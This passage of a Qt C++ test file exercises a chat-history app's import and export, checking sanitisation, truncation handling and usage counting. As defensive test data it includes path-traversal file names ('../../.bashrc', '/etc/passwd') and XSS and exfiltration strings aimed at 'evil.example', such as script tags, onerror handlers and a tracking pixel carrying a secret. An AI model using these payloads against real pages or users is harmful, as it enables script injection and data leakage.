                               R"({"format":"bobbin-history","version":1,"services":[)"
                                   + QJsonDocument(service).toJson() + "]}");

    QVERIFY(report);
    qsizetype size = 0;
    const QList<Service> services = store->services().all().value();
    QCOMPARE(services.size(), 1);
    for (const auto &[name, value] : services.constFirst().headers)
        size += name.size() + value.size();
    QVERIFY2(size > 0 && size < 300'000, qPrintable(QString::number(size)));
}

// What is trusted here stays, though the file has the service, too; and the export tells it.
void tst_Exchange::knownServiceKeepsItsTrust()
{
    const auto store = createStore();
    Service service;
    service.id = ServiceId::create();
    service.name = u"Gateway"_s;
    service.baseUrl = QUrl(u"https://gateway.example/v1"_s);
    service.caFile = u"/etc/gateway.pem"_s;
    service.network.trustedCertificate = QByteArray(32, 'x');
    service.network.proxy.kind = ProxyChoice::Kind::Http;
    service.network.proxy.host = u"proxy.example"_s;
    QVERIFY(store->services().put(service));
    const QByteArray file = exported(*store);
    QVERIFY(file.contains("proxy.example"));

    const auto report = import(*store, file);

    QCOMPARE(report->distrusted, 0);
    QCOMPARE(store->services().all()->constFirst(), service);
}

// The service of the environment has a key without asking the keychain.
void tst_Exchange::servicesOfARunAreNotImported()
{
    const auto store = createStore();

    for (const ServiceId &id : {environmentServiceId(), practiceServiceId()}) {
        QVERIFY(import(
            *store,
            R"({"format":"bobbin-history","version":1,"services":[{"id":")" + id.toString().toLatin1()
                + R"(","name":"s","api_kind":"chat_completions","base_url":"https://evil.example"}]})"));
    }

    QVERIFY(store->services().all()->isEmpty());
}

void tst_Exchange::namesAreOnlyText()
{
    const QStringList names {u"../../.bashrc"_s, u"/etc/passwd"_s, u"a"_s + QChar(0) + u"b"_s,
                             u"\u202Egpj.exe"_s, QString(10'000, u'x')};
    const auto from = createStore();
    Conversation conversation;
    conversation.id = ConversationId::create();
    QVERIFY(from->conversations().insert(conversation));
    Message message;
    message.id = MessageId::create();
    QVERIFY(from->messages().append(conversation.id, message));
    for (const QString &name : names)
        QVERIFY(from->attachments().insert(message.id, {AttachmentId::create(), name, name, "data"}));
    const QByteArray file = exported(*from);
    const auto to = createStore();
    const QStringList before = QDir(m_dir->path()).entryList(QDir::AllEntries | QDir::Hidden);

    QVERIFY(import(*to, file));

    QStringList kept;
    const QList<Attachment> attachments = to->attachments().of(message.id).value();
    for (const Attachment &attachment : attachments)
        kept << attachment.name;
    QCOMPARE(kept, names);
    QCOMPARE(exported(*to), file);
    // The import's own file, and nothing that an attachment asked for.
    QVERIFY(QDir(m_dir->path()).entryList(QDir::AllEntries | QDir::Hidden).size() <= before.size() + 1);
}

// They are laid out whole, each time they are painted.
void tst_Exchange::namesAreShortAndHideNothing()
{
    const QString longName =
        u"a\u202Eb\u0007 \n\tc \U000E0041d\u2066e\u2069 "_s + u"\U0001F600"_s.repeated(100'000);
    const QJsonArray tags = [&] {
        QJsonArray all {longName};
        for (int i = 0; i < 100'000; ++i)
            all.append(QString::number(i));
        return all;
    }();
    const QJsonObject service {{u"id"_s, u"0192a000-0000-7000-8000-00000000000b"_s},
                               {u"name"_s, longName},
                               {u"default_model"_s, longName},
                               {u"background_model"_s, longName},
                               {u"api_kind"_s, u"chat_completions"_s}};
    const QJsonObject folder {
        {u"id"_s, u"0192a000-0000-7000-8000-00000000000c"_s}, {u"name"_s, longName}, {u"updated_ms"_s, 1}};
    const QJsonObject message {{u"id"_s, u"0192a000-0000-7000-8000-000000000002"_s},
                               {u"role"_s, u"user"_s},
                               {u"model"_s, longName},
                               {u"created_ms"_s, 1},
                               {u"updated_ms"_s, 1},
                               {u"content"_s, longName}};
    const QJsonObject conversation {{u"id"_s, u"0192a000-0000-7000-8000-000000000001"_s},
                                    {u"title"_s, longName},
                                    {u"model"_s, longName},
                                    {u"tags"_s, tags},
                                    {u"created_ms"_s, 1},
                                    {u"active_ms"_s, 1},
                                    {u"updated_ms"_s, 1}};
    const auto json = [](const QJsonObject &object) {
        return QJsonDocument(object).toJson(QJsonDocument::Compact);
    };
    const QByteArray history = R"({"format":"bobbin-history","version":1,"services":[)" + json(service)
        + R"(],"folders":[)" + json(folder) + R"(],"conversations":[)" + json(conversation).chopped(1)
        + R"(,"messages":[)" + json(message) + "]}]}";
    const auto store = createStore();

    QVERIFY(import(*store, history));

    const Conversation kept =
        store->conversations().find(store->conversations().page({}, 1)->conversations.first().id).value();
    const Message keptMessage =
        store->messages().find(MessageId::fromString(message[u"id"].toString())).value();
    const Service keptService = store->services().all()->constFirst();
    for (const QString &name :
         {kept.title, kept.model, keptMessage.model, keptService.name, keptService.defaultModel,
          keptService.backgroundModel, store->folders().all()->constFirst().name}) {
        QVERIFY2(name.startsWith(u"ab c de \U0001F600"_s), qPrintable(name.left(20)));
        QVERIFY(name.size() == 999 || name.size() == 1000);
        QVERIFY(name.back().isLowSurrogate());
    }
    QCOMPARE(kept.tags.size(), 100);
    QCOMPARE(keptMessage.content, longName);
}

// Each message below the one before: whatever goes down a tree by calling itself would fall.
void tst_Exchange::longChainIsImported()
{
    constexpr int number = 30'000;
    const auto id = [](int i) -> QByteArray {
        return "0192a000-0000-7000-8000-" + QByteArray::number(i, 16).rightJustified(12, '0');
    };
    QByteArray file =
        R"({"format":"bobbin-history","version":1,"conversations":[{"id":"0192a000-0000-7000-9000-000000000000",)"
        R"("title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"leaf":")"
        + id(number - 1) + R"(","messages":[)";
    for (int i = 0; i < number; ++i) {
        file += (i > 0 ? R"(,{"parent":")" + id(i - 1) + R"(",)" : QByteArray("{")) + R"("id":")" + id(i)
            + R"(","role":"user","created_ms":1,"updated_ms":1,"content":"c"})";
    }
    file += "]}]}";
    const auto store = createStore();

    const auto report = import(*store, file);

    QCOMPARE(report->messages, number);
    const MessageId leaf = MessageId::fromString(QString::fromLatin1(id(number - 1)));
    QCOMPARE(store->messages().branch(leaf, number - 2, number - 1)->size(), 2);
    QVERIFY(exported(*store).size() > file.size());
    QCOMPARE(
        store->branches().tree(ConversationId::fromString(u"0192a000-0000-7000-9000-000000000000"_s))->size(),
        number);
}

void tst_Exchange::lastOfEqualMembersCounts()
{
    const auto store = createStore();

    QVERIFY(import(*store, R"({"format":"bobbin-history","version":1,"conversations":[{
        "id":"0192a000-0000-7000-8000-000000000001","title":"first","title":"second","created_ms":1,"active_ms":1,
        "updated_ms":1}]})"));

    QCOMPARE(store->conversations().page({}, 1)->conversations.first().title, u"second"_s);
}

void tst_Exchange::namesOfMembersAreNoPaths()
{
    const QByteArray message =
        R"({"id":"0192a000-0000-7000-8000-000000000003","role":"user","created_ms":1,"updated_ms":1,"content":"c"})";
    const QByteArray conversation =
        R"({"id":"0192a000-0000-7000-8000-000000000002","title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"messages/*":)"
        + message + R"(,"messages":[]})";
    const auto store = createStore();

    const auto report =
        import(*store,
               R"({"format":"bobbin-history","version":1,"conversations/*":)" + conversation
                   + R"(,"conversations/*/messages":[1],"conversations":[)" + conversation + "]}");

    QVERIFY(report);
    QCOMPARE(report->conversations, 1);
    QCOMPARE(report->messages, 0);
    QCOMPARE(report->notUnderstood, 1);
}

void tst_Exchange::halvesOfCharactersAreReplaced_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("text");

    const QString half = QChar(QChar::ReplacementCharacter);
    const QString smile = u"😀"_s;
    QTest::newRow("high at the end") << QByteArray(R"(a\ud83d)") << "a"_L1 + half;
    QTest::newRow("high before a character") << QByteArray(R"(\ud83dz)") << half + u'z';
    QTest::newRow("high before another escape") << QByteArray(R"(\ud83d\n)") << half + u'\n';
    QTest::newRow("high before a backslash") << QByteArray(R"(\ud83d\\ude00)") << half + "\\ude00"_L1;
    QTest::newRow("two high") << QByteArray(R"(\uD83D\uD83D)") << half + half;
    QTest::newRow("high before a pair") << QByteArray(R"(\ud83d\uD83D\uDE00)") << half + smile;
    QTest::newRow("low") << QByteArray(R"(\uDE00z)") << half + u'z';
    QTest::newRow("low before a pair") << QByteArray(R"(\ude00\ud83d\ude00)") << half + smile;
    QTest::newRow("pair") << QByteArray(R"(\ud83d\uDE00)") << smile;
    QTest::newRow("pair and low") << QByteArray(R"(\ud83d\ude00\ude00)") << smile + half;
    QTest::newRow("escaped backslash") << QByteArray(R"(\\ud83d)") << u"\\ud83d"_s;
    QTest::newRow("half behind an escaped backslash") << QByteArray(R"(\\\ud83d)") << u'\\' + half;
    QTest::newRow("other escapes") << QByteArray(R"(\u00e4\ue000\ud7ff)") << u"ä\ue000\ud7ff"_s;
    // Of a length with which they are cut, time after time, at another place.
    QTest::newRow("cut where a buffer ends") << QByteArray(R"(\ud83d\ude00\ud83dx)").repeated(80'000)
                                             << QString(smile + half + u'x').repeated(80'000);
}

void tst_Exchange::halvesOfCharactersAreReplaced()
{
    QFETCH(const QByteArray, json);
    QFETCH(const QString, text);
    const auto store = createStore();

    const auto report = import(*store, R"([{"role":"user","content":")" + json + R"("}])");

    QVERIFY2(report.isOk(), qPrintable(report ? QString() : report.error().detail));
    const ConversationId id = store->conversations().page({}, 1)->conversations.first().id;
    const QJsonArray out = QJsonDocument::fromJson(exported(*store, {ExportFormat::Messages, {id}})).array();
    QVERIFY(out[0][u"content"].toString() == text);
}

void tst_Exchange::fileCutAnywhereChangesNothing()
{
    const auto from = createStore();
    Conversation conversation;
    conversation.id = ConversationId::create();
    QVERIFY(from->conversations().insert(conversation));
    Message message;
    message.id = MessageId::create();
    message.content = u"text ü"_s;
    QVERIFY(from->messages().append(conversation.id, message));
    const QByteArray whole = exported(*from).trimmed();
    const auto to = createStore();

    for (qsizetype cut = 0; cut < whole.size(); ++cut)
        QVERIFY2(!import(*to, whole.first(cut)), qPrintable(QString::number(cut)));

    QCOMPARE(to->conversations().count().value(), 0);
    QVERIFY(import(*to, whole));
}

// Wherever it is cancelled, and whatever of the file was there before in another version.
void tst_Exchange::cancelledImportChangesNothing()
{
    const auto from = createStore();
    fill(*from);
    const auto to = createStore();
    QVERIFY(import(*to, exported(*from)));
    QVERIFY(to->services().remove(to->services().all()->constFirst().id));
    const QByteArray before = exported(*to);
    const auto usageBefore = to->usage().months().value();
    const auto ownUsageBefore = to->usage().ofConversation(m_rich).value();
    const auto threadsBefore = to->serverThreads().of(m_rich).value();
    const Timestamp old = m_clock.now();
    QTRY_VERIFY(m_clock.now() > old); // what follows is newer
    changeEverything(*from);
    const QString path = fileWith(exported(*from));

    int cancelled = 0;
    for (int step = 1;; ++step) {
        int seen = 0;
        bool isStoring = false;
        const auto report = importFile(path, *to, m_clock, [&](qint64 done, qint64 all) {
            isStoring = 2 * done > all;
            return !isStoring || ++seen < step;
        });
        if (report)
            break;
        ++cancelled;
        QCOMPARE(report.error().kind, ExchangeError::Kind::Cancelled);
        QCOMPARE(exported(*to), before);
        QCOMPARE(to->usage().months().value(), usageBefore);
        QCOMPARE(to->usage().ofConversation(m_rich).value(), ownUsageBefore);
        QCOMPARE(to->serverThreads().of(m_rich).value(), threadsBefore);
        QCOMPARE(to->maintenance().check().value(), QStringList());
    }
    QVERIFY(cancelled > 10);
    QCOMPARE(to->messages().count().value(), from->messages().count().value());
}

// Something new of each kind, and a newer version of what was there; the end of the file is far away from
// both.
void tst_Exchange::changeEverything(ConversationStore &store)
{
    QVERIFY(store.conversations().setTitle(m_rich, u"Renamed"_s, TitleSource::User));
    QVERIFY(store.conversations().setTags(m_rich, {u"new"_s}));
    Folder folder = store.folders().all()->constFirst();
    folder.name = u"Renamed"_s;
    folder.updatedAt = m_clock.now();
    QVERIFY(store.folders().put(folder));
    const Folder added {
        .id = FolderId::create(), .name = u"Added"_s, .position = 4, .updatedAt = m_clock.now()};
    QVERIFY(store.folders().put(added));
    QVERIFY(store.conversations().setFolder(m_rich, added.id));
    QList<ServerThread> threads = store.serverThreads().of(m_rich).value();
    threads.first().usedAt = m_clock.now();
    threads.append(threads.constFirst());
    threads.last().id = ServerThreadId::create();
    for (const ServerThread &thread : std::as_const(threads))
        QVERIFY(store.serverThreads().put(m_rich, thread));
    MessageId parent = m_root;
    for (int i = 0; i < 3; ++i) {
        Message message;
        message.id = MessageId::create();
        message.parent = std::exchange(parent, message.id);
        message.content = u"later"_s;
        message.usage.promptTokens = 7;
        QVERIFY(store.messages().append(m_rich, message));
    }
    Message first;
    first.id = MessageId::create();
    QVERIFY(store.messages().append(m_empty, first));
    Conversation conversation;
    conversation.id = ConversationId::create();
    conversation.folder = added.id;
    QVERIFY(store.conversations().insert(conversation));
    QVERIFY(store.drafts().set(conversation.id, u"a draft"_s));
    Message message;
    message.id = MessageId::create();
    message.usage.promptTokens = 11;
    QVERIFY(store.messages().append(conversation.id, message));
    QVERIFY(store.attachments().insert(
        message.id, {AttachmentId::create(), u"a"_s, u"image/png"_s, QByteArray(300'000, 'x')}));
}

// An export that is imported after its conversation was deleted for good, again and again.
void tst_Exchange::usageIsCountedOnce()
{
    const auto store = createStore();
    fill(*store);
    const QByteArray file = exported(*store);
    const auto months = store->usage().months().value();
    const UsageSum own = store->usage().ofConversation(m_rich).value();
    QCOMPARE(own.requests, 3);

    for (int i = 0; i < 2; ++i) {
        QVERIFY(store->conversations().remove(m_rich));
        QVERIFY(import(*store, file));

        QCOMPARE(store->usage().months().value(), months);
        QCOMPARE(store->usage().ofConversation(m_rich).value(), own);
    }
}

// A reply that came in here was counted when it ended; two that cost the same are two.
void tst_Exchange::usageIsCountedOnceWhateverWasDone()
{
    ManualClock clock;
    const auto from =
        ConversationStore::open(m_dir->filePath(u"from"_s), ConversationStore::Access::ReadWrite, clock)
            .value();
    Conversation conversation;
    conversation.id = ConversationId::create();
    QVERIFY(from->conversations().insert(conversation));
    const Timestamp start = clock.now();
    for (int i = 0; i < 2; ++i) {
        Message reply;
        reply.id = MessageId::create();
        reply.role = Role::Assistant;
        reply.state = ReplyState::Streaming;
        reply.createdAt = reply.updatedAt = start;
        QVERIFY(from->messages().append(conversation.id, reply));
        clock.time += std::chrono::seconds(5);
        reply.state = ReplyState::Complete;
        reply.usage.promptTokens = 7;
        QVERIFY(from->messages().finishReply(conversation.id, reply, u"text"_s, {}));
        clock.time += std::chrono::seconds(5);
        QVERIFY(from->messages().setMilestone(reply.id, true));
    }
    const QByteArray file = exported(*from);
    const auto to = createStore();
    QVERIFY(import(*to, file));
    QCOMPARE(to->usage().ofConversation(conversation.id)->requests, 2);

    for (const auto &store : {from.get(), to.get()}) {
        QVERIFY(store->conversations().remove(conversation.id));
        QVERIFY(import(*store, file));

        QCOMPARE(store->usage().ofConversation(conversation.id)->requests, 2);
        QCOMPARE(store->usage().ofConversation(conversation.id)->promptTokens, 14);
        QCOMPARE(store->usage().months()->constFirst().sum.requests, 2);
    }
}

void tst_Exchange::usageThatCannotBeIsNotBelieved()
{
    const QByteArray file =
        R"({"format":"bobbin-history","version":1,"conversations":[{"id":"0192a000-0000-7000-8000-000000000001",)"
        R"("title":"t","created_ms":1,"active_ms":1,"updated_ms":1,"messages":[)"
        R"({"id":"0192a000-0000-7000-8000-000000000002","role":"assistant","created_ms":1,"updated_ms":1,)"
        R"("usage":{"prompt_tokens":3,"completion_tokens":1000000001,"cached_tokens":-1},"cost_nano":9007199254740991},)"
        R"({"id":"0192a000-0000-7000-8000-000000000003","role":"assistant","created_ms":1,"updated_ms":1,)"
        R"("usage":{"prompt_tokens":4},"cost_nano":-5},)"
        R"({"id":"0192a000-0000-7000-8000-000000000004","role":"assistant","created_ms":1,"updated_ms":1,)"
        R"("usage":{"completion_tokens":1000000000},"cost_nano":10000000000000}]}]})";
    const auto store = createStore();

    QVERIFY(import(*store, file));

    const UsageSum expected {.requests = 3,
                             .promptTokens = 7,
                             .completionTokens = 1'000'000'000,
                             .cost = 10'000'000'000'000,
                             .requestsWithCost = 1};
    QCOMPARE(store->usage().months()->constFirst().sum, expected);
    QVERIFY(!exported(*store).contains("9007199254740991"));
}

void tst_Exchange::newerFormatIsRefused()
{
    const auto store = createStore();
    const auto report = import(*store, R"({"format":"bobbin-history","version":2,"conversations":[]})");
    QCOMPARE(report.error().kind, ExchangeError::Kind::TooNew);
}

void tst_Exchange::listOfMessagesGoesInAndOut()
{
    const QByteArray list =
        R"([{"role":"system","content":"Be brief."},{"role":"user","content":"Hi\n\"you\""},
        {"role":"assistant","content":[{"type":"text","text":"Hello"},{"type":"image_url","image_url":{}}]}])";
    const auto store = createStore();

    const auto report = import(*store, list);

    QCOMPARE(report->conversations, 1);
    QCOMPARE(report->messages, 2);
    QCOMPARE(report->notUnderstood, 1);
    const ConversationSummary summary = store->conversations().page({}, 1)->conversations.first();
    QCOMPARE(summary.title, u"Hi \"you\""_s);
    const QJsonArray out =
        QJsonDocument::fromJson(exported(*store, {ExportFormat::Messages, {summary.id}})).array();
    QCOMPARE(out.size(), 3);
    QCOMPARE(out[0], (QJsonObject {{u"role"_s, u"system"_s}, {u"content"_s, u"Be brief."_s}}));
    QCOMPARE(out[2], (QJsonObject {{u"role"_s, u"assistant"_s}, {u"content"_s, u"Hello"_s}}));
}

static Message messageWith(Role role, const QString &content)
{
    Message message;
    message.role = role;
    message.content = content;
    return message;
}

void tst_Exchange::listMayHaveMoreThanTexts_data()
{
    QTest::addColumn<QByteArray>("message");
    QTest::addColumn<Message>("expected");
    QTest::addColumn<int>("notUnderstood");

    const auto calls = QByteArray(R"("tool_calls":[{"id":"call_1","type":"function"}])");
    Message asked = messageWith(Role::Assistant, {});
    asked.finishReason = FinishReason::ToolCalls;
    QTest::newRow("calls without content") << R"({"role":"assistant",)" + calls + '}' << asked << 1;
    QTest::newRow("calls and no content")
        << R"({"role":"assistant","content":null,)" + calls + '}' << asked << 1;
    QTest::newRow("call of a function")
        << QByteArray(R"({"role":"assistant","function_call":{"name":"f","arguments":"{}"}})") << asked << 1;
    QTest::newRow("what a tool returned")
        << QByteArray(R"({"role":"tool","tool_call_id":"call_1","name":"f","content":"12 °C"})")
        << messageWith(Role::Tool, u"12 °C"_s) << 2;
    QTest::newRow("what a function returned")
        << QByteArray(R"({"role":"function","name":"f","content":"12 °C"})")
        << messageWith(Role::Tool, u"12 °C"_s) << 1;
    Message refused = messageWith(Role::Assistant, u"I cannot."_s);
    refused.refused = true;
    QTest::newRow("refusal without content")
        << QByteArray(R"({"role":"assistant","refusal":"I cannot."})") << refused << 0;
    QTest::newRow("refusal and no content")
        << QByteArray(R"({"role":"assistant","content":null,"refusal":"I cannot."})") << refused << 0;
    QTest::newRow("refusal as a part")
        << QByteArray(R"({"role":"assistant","content":[{"type":"refusal","refusal":"I cannot."}]})")
        << refused << 0;
    QTest::newRow("members without a value")
        << QByteArray(R"({"role":"assistant","content":"Hello","refusal":null,"annotations":[],"audio":null,
            "tool_calls":[],"function_call":null})")
        << messageWith(Role::Assistant, u"Hello"_s) << 0;
}

void tst_Exchange::listMayHaveMoreThanTexts()
{
    QFETCH(const QByteArray, message);
    QFETCH(const Message, expected);
    const auto store = createStore();

    const auto report = import(*store, R"([{"role":"user","content":"Hi"},)" + message + ']');

    QVERIFY2(report.isOk(), qPrintable(report ? QString() : report.error().detail));
    QTEST(int(report->notUnderstood), "notUnderstood");
    const ConversationId id = store->conversations().page({}, 1)->conversations.first().id;
    const auto branch = store->messages().branch(store->conversations().find(id)->leaf, 0, 9);
    QCOMPARE(branch->size(), 2);
    const Message &read = branch->last().message;
    QCOMPARE(read.role, expected.role);
    QCOMPARE(read.content, expected.content);
    QCOMPARE(read.finishReason, expected.finishReason);
    QCOMPARE(read.refused, expected.refused);
}

void tst_Exchange::exportsOneConversation()
{
    const auto store = createStore();
    fill(*store);

    const QJsonObject json =
        QJsonDocument::fromJson(exported(*store, {ExportFormat::Json, {m_rich}})).object();

    QCOMPARE(json.value(u"format").toString(), u"bobbin-history"_s);
    const QJsonArray conversations = json.value(u"conversations").toArray();
    QCOMPARE(conversations.size(), 1);
    QCOMPARE(conversations[0][u"id"].toString(), m_rich.toString());
    QCOMPARE(conversations[0][u"messages"].toArray().size(), 4);
}

void tst_Exchange::exportsMarkdown()
{
    const auto store = createStore();
    fill(*store);

    const QString text = QString::fromUtf8(exported(*store, {ExportFormat::Markdown, {m_rich}}));

    QVERIFY(text.startsWith(u"# Quotes"_s));
    QVERIFY(text.contains(u"> Be\n> brief,"_s));
    QVERIFY(text.contains(u"<script>alert(2)</script> | a | b |\n"_s));
    QVERIFY(!text.contains(u"alert(1)"_s)); // not on the active branch
}

void tst_Exchange::documentsSayWhatIsNotWhole()
{
    const auto store = createStore();
    Conversation conversation;
    conversation.id = ConversationId::create();
    QVERIFY(store->conversations().insert(conversation));
    Message question;
    question.id = MessageId::create();
    question.role = Role::User;
    QVERIFY(store->messages().append(conversation.id, question));
    QVERIFY(store->attachments().insert(
        question.id, {AttachmentId::create(), u"<x>_1.png"_s, u"image/png"_s, QByteArray(3'000, 'x')}));
    Message reply;
    reply.id = MessageId::create();
    reply.parent = question.id;
    reply.role = Role::Assistant;
    reply.state = ReplyState::Interrupted;
    reply.content = u"Half"_s;
    reply.error = u"<b>gone</b>"_s;
    QVERIFY(store->messages().append(conversation.id, reply));

    const QByteArray markdown = exported(*store, {ExportFormat::Markdown, {}});
    QVERIFY2(markdown.contains("*File: \\<x\\>\\_1.png \\("), markdown.constData());
    QVERIFY2(markdown.contains("*Interrupted: \\<b\\>gone"), markdown.constData());
    const QByteArray html = exported(*store, {ExportFormat::Html, {}});
    QVERIFY2(html.contains("<em>File: &lt;x&gt;_1.png ("), html.constData());
    QVERIFY2(html.contains("<em>Interrupted: &lt;b&gt;gone"), html.constData());
}

void tst_Exchange::markdownOfAMessageEndsWithIt_data()
{
    QTest::addColumn<QString>("content");
    QTest::addColumn<QString>("end");

    QTest::newRow("words") << u"a"_s << u"a\n"_s;
    QTest::newRow("closed fence") << u"```\na\n```"_s << u"```\na\n```\n"_s;
    QTest::newRow("fence") << u"```cpp\nint a"_s << u"int a\n```\n"_s;
    QTest::newRow("fence with a line break") << u"```cpp\nint a\n"_s << u"int a\n```\n"_s;
    QTest::newRow("long fence") << u"`````\n```\na"_s << u"a\n`````\n"_s;
    QTest::newRow("tildes") << u"~~~\na"_s << u"a\n~~~\n"_s;
    QTest::newRow("fence alone") << u"```"_s << u"```\n```\n"_s;
    QTest::newRow("fence in an item") << u"- x\n\n  ```\n  a"_s << u"  a\n  ```\n"_s;
    QTest::newRow("comment") << u"a\n\n<!-- b"_s << u"<!-- b\n-->\n"_s;
    QTest::newRow("comment behind words") << u"a <!-- b"_s << u"a <!-- b\n"_s;
    QTest::newRow("closed comment") << u"<!-- b\n\nc --> d"_s << u"c --> d\n"_s;
    QTest::newRow("comment in code") << u"```\n<!-- b\n```\n"_s << u"<!-- b\n```\n"_s;
    QTest::newRow("comment behind code") << u"```\na\n```\n<!-- b"_s << u"<!-- b\n-->\n"_s;
    QTest::newRow("fence in a comment") << u"<!--\n```\na"_s << u"a\n-->\n"_s;
    QTest::newRow("comment ends behind a fence") << u"<!--\n```\n-->\na"_s << u"-->\na\n"_s;
    QTest::newRow("script") << u"<script>\nlet a\n\n"_s << u"let a\n\n</script>\n"_s;
    QTest::newRow("style") << u"<STYLE type=a>\n"_s << u"<STYLE type=a>\n</style>\n"_s;
    QTest::newRow("closed pre") << u"<pre>\na\n</pre>\n"_s << u"</pre>\n"_s;
    QTest::newRow("pre closed by another tag") << u"<pre>\n</SCRIPT>\n```"_s << u"```\n```\n"_s;
    QTest::newRow("shortest comment") << u"<!-->\n```\na"_s << u"a\n```\n"_s;
    QTest::newRow("no script") << u"<scripture>"_s << u"<scripture>\n"_s;
    QTest::newRow("declaration") << u"<!DOCTYPE html"_s << u"<!DOCTYPE html\n>\n"_s;
    QTest::newRow("instruction") << u"<?php echo"_s << u"<?php echo\n?>\n"_s;
    QTest::newRow("CDATA") << u"<![CDATA[ a"_s << u"<![CDATA[ a\n]]>\n"_s;
}

// However it was cut off.
void tst_Exchange::markdownOfAMessageEndsWithIt()
{
    QFETCH(const QString, content);
    QFETCH(const QString, end);
    const auto store = createStore();
    Conversation conversation;
    conversation.id = ConversationId::create();
    QVERIFY(store->conversations().insert(conversation));
    Message reply;
    reply.id = MessageId::create();
    reply.role = Role::Assistant;
    reply.content = content;
    QVERIFY(store->messages().append(conversation.id, reply));
    Message next;
    next.id = MessageId::create();
    next.parent = reply.id;
    next.role = Role::User;
    next.content = u"Next"_s;
    QVERIFY(store->messages().append(conversation.id, next));

    const QString markdown = QString::fromUtf8(exported(*store, {ExportFormat::Markdown, {}}));

    QVERIFY2(markdown.contains(end + u"\n## You"_s), qPrintable(markdown));
    QVERIFY2(markdown.contains(content), qPrintable(markdown));
}

void tst_Exchange::titlesInMarkdownAreText()
{
    const auto store = createStore();
    Conversation conversation;
    conversation.id = ConversationId::create();
    conversation.title = u"<!-- [a](https://evil.example) *b*"_s;
    QVERIFY(store->conversations().insert(conversation));
    Message reply;
    reply.id = MessageId::create();
    reply.role = Role::Assistant;
    reply.model = u"<!-- m"_s;
    QVERIFY(store->messages().append(conversation.id, reply));

    const QByteArray markdown = exported(*store, {ExportFormat::Markdown, {conversation.id}});

    QVERIFY2(markdown.startsWith("# \\<\\!-- \\[a\\]\\(https://evil.example\\) \\*b\\*\n"),
             markdown.constData());
    QVERIFY2(markdown.contains("\\<\\!-- m"), markdown.constData());
}

// What is deleted while it is exported is in the export, whole.
void tst_Exchange::exportIsOfOneMoment()
{
    const QString path = m_dir->filePath(QString::number(m_files));
    const auto store = createStore();
    for (int i = 0; i < 3; ++i)
        fill(*store);
    const auto other = ConversationStore::open(path, ConversationStore::Access::ReadWrite, m_clock).value();
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    bool isRemoved = false;

    const auto report = exportTo(buffer, *store, {}, [&](qint64, qint64) {
        if (!isRemoved) {
            QList<ConversationId> ids;
            (void)other->conversations().forEach([&ids](const Conversation &conversation) {
                ids.append(conversation.id);
                return true;
            });
            for (const ConversationId &id : std::as_const(ids))
                (void)other->conversations().remove(id);
            isRemoved = true;
        }
        return true;
    });

    QVERIFY(report && report->messages > 3);
    QCOMPARE(store->conversations().count().value(), 0);
    const auto imported = import(*createStore(), buffer.data());
    QVERIFY(imported);
    QCOMPARE(imported->messages, report->messages);
}

void tst_Exchange::htmlHasNothingThatRuns()
{
    const auto store = createStore();
    fill(*store);

    const QByteArray html = exported(*store, {ExportFormat::Html, {m_rich}});

    QVERIFY(html.contains("&lt;script&gt;alert(2)&lt;/script&gt;"));
    QVERIFY(!html.contains("<script"));
}

// Also for programs that know nothing of the policy at its head.
void tst_Exchange::htmlFetchesNothing()
{
    const auto store = createStore();
    Conversation conversation;
    conversation.id = ConversationId::create();
    conversation.title = u"</title><img src=x onerror=alert(1)>"_s;
    conversation.instructions = u"</blockquote><script>alert(1)</script>"_s;
    QVERIFY(store->conversations().insert(conversation));
    Message reply;
    reply.id = MessageId::create();
    reply.role = Role::Assistant;
    reply.model = u"<iframe src=https://evil.example>"_s;
    reply.content =
        u"![pixel](https://evil.example/?q=secret) [run](javascript:alert(1)) [file](file:///etc/passwd)\n\n"
        "[data](data:text/html,<script>) <img src=https://evil.example onerror=alert(1)> "
        "<style>@import 'https://evil.example'</style>\n\n"
        "[a](https://good.example/\"onmouseover=alert(1)) "
        "![b](data:image/png;base64,AA\"onerror=alert(1))\n\n"
        "```\"><script>alert(1)</script>\ncode\n```\n\n<https://good.example/auto>\n"_s;
    QVERIFY(store->messages().append(conversation.id, reply));

    const QString html = QString::fromUtf8(exported(*store, {ExportFormat::Html, {conversation.id}}));

    QVERIFY(html.contains("Content-Security-Policy\" content=\"default-src 'none'"_L1));
    static const QRegularExpression tag(u"<([a-z0-9]+)((?:\\s[^<>]*)?)>"_s);
    static const QRegularExpression attribute(
        u"^(?:\\s(?:rel|href|dir|align|src|alt|start)=\"[^\"<>]*\")*$"_s);
    const QStringList harmless {u"article"_s, u"h1"_s, u"h2"_s,  u"blockquote"_s, u"section"_s, u"p"_s,
                                u"em"_s,      u"a"_s,  u"img"_s, u"br"_s,         u"pre"_s,     u"code"_s};
    const QString body = html.mid(html.indexOf("<body>"_L1) + 6);
    int links = 0;
    for (auto it = tag.globalMatch(body); it.hasNext();) {
        const auto found = it.next();
        const QString attributes = found.captured(2);
        QVERIFY2(harmless.contains(found.captured(1)), qPrintable(found.captured()));
        QVERIFY2(attribute.match(attributes).hasMatch(), qPrintable(found.captured()));
        QVERIFY2(!attributes.contains("src="_L1) || attributes.contains(" src=\"data:image/"_L1),
                 qPrintable(found.captured()));
        if (!attributes.contains("href="_L1))
            continue;
        ++links;
        QVERIFY2(attributes.contains(" href=\"https://"_L1), qPrintable(found.captured()));
    }
    QVERIFY(links >= 3);
    QCOMPARE(body.count(u'<'), body.count(u'>'));
}

void tst_Exchange::failedExportLeavesTheOldFile()
{
    const auto store = createStore();
    fill(*store);

    const auto report = exportToFile(m_dir->filePath(u"missing/folder/file.json"_s), *store, {});

    QVERIFY(!report);
    QCOMPARE(report.error().kind, ExchangeError::Kind::CannotWrite);
}

void tst_Exchange::cancelledExportLeavesTheOldFile()
{
    const auto store = createStore();
    fill(*store);
    const QString path = fileWith("old");

    const auto cancelled = exportToFile(path, *store, {}, [](qint64, qint64) { return false; });

    QCOMPARE(cancelled.error().kind, ExchangeError::Kind::Cancelled);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), "old");
    QVERIFY(exportToFile(path, *store, {}));
    file.seek(0);
    QFile replaced(path);
    QVERIFY(replaced.open(QIODevice::ReadOnly));
    QVERIFY(replaced.readAll().startsWith("{\n \"format\": \"bobbin-history\",\n \"version\": 1"));
}

QTEST_GUILESS_MAIN(tst_Exchange)
#include "tst_exchange.moc"
